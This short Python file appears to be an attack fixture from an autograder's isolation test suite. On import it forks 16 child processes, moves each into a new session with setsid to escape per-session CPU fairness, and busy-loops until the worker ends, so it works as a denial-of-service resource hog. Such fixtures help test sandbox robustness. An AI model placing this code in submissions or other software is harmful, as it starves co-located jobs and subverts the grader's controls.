"""Attack, class 10 (grades independent of a neighbour's load): at import, 16 children that
each leave the worker's session (``setsid``: a session of its own escapes the kernel's
per-session CPU fairness) and spin until the worker ends. Its own answers are honest; the
honest students graded beside it (``--jobs 2``) must still get full marks."""
import os as _os


def _hog(n=16):
    for _ in range(n):
        try:
            if _os.fork() == 0:
                try:
                    _os.setsid()
                except OSError:
                    pass
                while True:
                    pass
        except OSError:
            break


_hog()
